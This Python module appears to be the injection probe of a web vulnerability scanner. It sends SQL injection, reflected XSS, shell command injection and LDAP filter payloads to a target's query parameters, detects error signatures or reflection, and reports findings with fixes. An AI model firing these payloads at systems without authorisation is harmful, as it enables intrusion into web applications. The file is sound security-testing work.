# redforge/scanner/probes/injection.py
"""
A03:2021 Injection.

Each sub-check stops at its first positive payload.

Checks performed:
    CRITICAL: SQL error signature after an injection payload in ?id=
    HIGH:     XSS payload reflected unencoded from ?q=
    CRITICAL: Command output markers after a shell payload in ?cmd=
    HIGH:     LDAP error (or a 500) after an LDAP filter payload in ?user=
"""

from __future__ import annotations

from typing import List, Optional, Tuple

import httpx

from redforge.models import Finding, Severity
from redforge.scanner.base import ScanContext
from redforge.scanner.probes.base import BaseProbe, with_param

# (payload, description)
SQLI_PAYLOADS: List[Tuple[str, str]] = [
    ("' OR '1'='1", "Basic OR injection"),
    ("' OR '1'='1' --", "OR injection with comment"),
    ("1' OR '1' = '1", "Numeric OR injection"),
    ("admin'--", "Admin bypass"),
    ("' UNION SELECT NULL--", "UNION injection"),
    ("' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'", "UNION hash injection"),
    ("1' AND SLEEP(5)--", "Time-based blind injection"),
]

SQL_ERROR_SIGNATURES = [
    "sql syntax", "mysql", "postgresql", "sqlite", "syntax error",
    "odbc", "jdbc", "oracle", "warning: mysql", "unclosed quotation",
    "quoted string not properly terminated", "sqlexception",
]

XSS_PAYLOADS: List[Tuple[str, str]] = [
    ("<script>alert('XSS')</script>", "Basic XSS"),
    ("<img src=x onerror=alert('XSS')>", "Image XSS"),
    ("javascript:alert('XSS')", "JavaScript protocol"),
    ("<svg onload=alert('XSS')>", "SVG XSS"),
    ("<iframe src=javascript:alert('XSS')>", "Iframe XSS"),
    ("'><script>alert(String.fromCharCode(88,83,83))</script>", "Encoded XSS"),
]

CMD_PAYLOADS: List[Tuple[str, str]] = [
    (";ls", "Semicolon command separator"),
    ("| ls", "Pipe operator"),
    ("$(ls)", "Command substitution"),
    ("`ls`", "Backtick execution"),
    ("&& ls", "AND operator"),
    ("|| ls", "OR operator"),
]
CMD_OUTPUT_MARKERS = ("bin", "usr", "etc")

LDAP_PAYLOADS: List[Tuple[str, str]] = [
    ("*", "Wildcard"),
    ("admin*)(uid=*", "LDAP filter injection"),
    ("*)(uid=*))(|(uid=*", "Complex LDAP injection"),
]


class InjectionProbe(BaseProbe):
    owasp_id = "A03:2021"

    @property
    def name(self) -> str:
        return "injection"

    async def probe(self, client: httpx.AsyncClient, ctx: ScanContext) -> List[Finding]:
        findings = []
        for check in (self._sqli, self._xss, self._command, self._ldap):
            hit = await check(client, ctx)
            if hit:
                findings.append(hit)
        return findings

    async def _sqli(self, client, ctx) -> Optional[Finding]:
        for payload, desc in SQLI_PAYLOADS:
            url = with_param(ctx.target, "id", payload)
            resp = await self._fetch(client, ctx, url)
            if resp is None:
                continue
            lower = resp.text.lower()
            sig = next((s for s in SQL_ERROR_SIGNATURES if s in lower), None)
            if sig:
                return self._finding(
                    ctx, Severity.CRITICAL,
                    f"SQL injection: {desc}",
                    "A database error was returned for an injected id parameter. "
                    "Use parameterized queries and never build SQL from user input.",
                    {"url": str(url), "payload": payload, "signature": sig},
                )
        return None

    async def _xss(self, client, ctx) -> Optional[Finding]:
        for payload, desc in XSS_PAYLOADS:
            url = with_param(ctx.target, "q", payload)
            resp = await self._fetch(client, ctx, url)
            if resp is None:
                continue
            body = resp.text
            if payload in body or payload.replace("'", '"') in body:
                return self._finding(
                    ctx, Severity.HIGH,
                    f"Reflected XSS: {desc}",
                    "The q parameter is reflected into the page without encoding. "
                    "HTML-encode output and add a Content-Security-Policy.",
                    {"url": str(url), "payload": payload},
                )
        return None

    async def _command(self, client, ctx) -> Optional[Finding]:
        for payload, desc in CMD_PAYLOADS:
            url = with_param(ctx.target, "cmd", payload)
            resp = await self._fetch(client, ctx, url)
            if resp is None:
                continue
            body = resp.text
            if any(m in body for m in CMD_OUTPUT_MARKERS):
                return self._finding(
                    ctx, Severity.CRITICAL,
                    f"Command injection: {desc}",
                    "The response to a shell metacharacter payload contains what looks "
                    "like command output. Never pass user input to a shell.",
                    {"url": str(url), "payload": payload},
                )
        return None

    async def _ldap(self, client, ctx) -> Optional[Finding]:
        for payload, desc in LDAP_PAYLOADS:
            url = with_param(ctx.target, "user", payload)
            resp = await self._fetch(client, ctx, url)
            if resp is None:
                continue
            if "ldap" in resp.text.lower() or resp.status_code == 500:
                return self._finding(
                    ctx, Severity.HIGH,
                    f"Potential LDAP injection: {desc}",
                    "An LDAP filter payload in the user parameter caused an LDAP error "
                    "or a server error. Escape filter metacharacters.",
                    {"url": str(url), "payload": payload, "status": resp.status_code},
                )
        return None
